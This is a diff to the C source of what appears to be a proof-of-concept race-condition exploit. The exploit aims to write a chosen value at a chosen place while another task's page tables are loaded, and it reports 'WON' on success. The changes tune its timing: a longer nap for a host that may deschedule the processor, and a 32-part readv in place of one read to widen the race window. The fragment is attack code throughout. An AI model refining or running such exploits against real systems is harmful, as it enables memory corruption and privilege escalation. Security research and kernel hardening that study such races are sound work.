@@ -7,9 +7,11 @@
  */
 #pragma once
 #include "attack.h"
+#include <linux/uio.h>
 
-#define MEMORY_SIZE (4 << 20) /* reading that many random bytes takes longer than the nap */
-#define NAP_MILLISECONDS 10
+#define MEMORY_SIZE (4 << 20) /* READS times that many random bytes take longer than the nap */
+#define READS 32u
+#define NAP_MILLISECONDS 100 /* the host may not run this processor for a while */
 #define MEMORY_BYTE 0x5a
 #define PAGE 4096
 #define PAGES_CHANGED 4 /* among random bytes is the one that stood there, too */
@@ -52,13 +54,16 @@ static void start_rival(void)
 /* Puts VALUE at PLACE when the rival has just gone to sleep: the next switch is in the read. */
 static _Noreturn void run_on_other_tables(uint64_t place, uint64_t value)
 {
+	static struct iovec parts[READS];
 	char said[64];
 
+	for (unsigned int i = 0; i < READS; i++)
+		parts[i] = (struct iovec){ memory, MEMORY_SIZE };
 	do
 		sleep_milliseconds(1);
 	while (call3(__NR_read, pipe_ends[0], (long)said, sizeof(said)) > 1);
 	poke(place, value);
-	call3(__NR_read, random_file, (long)memory, MEMORY_SIZE);
+	call3(__NR_readv, random_file, (long)parts, READS);
 	for (;;)
 		__asm__ volatile("pause");
 }
@@ -78,6 +83,7 @@ static void victim(void)
 	/* Not where the attacker runs: between two tasks of one space no tables are loaded. */
 	(void)own_cpu(0);
 	fill_memory();
+	victim_round();
 	while (pages_changed() < PAGES_CHANGED)
 		sleep_milliseconds(1);
 	say_result("WON");
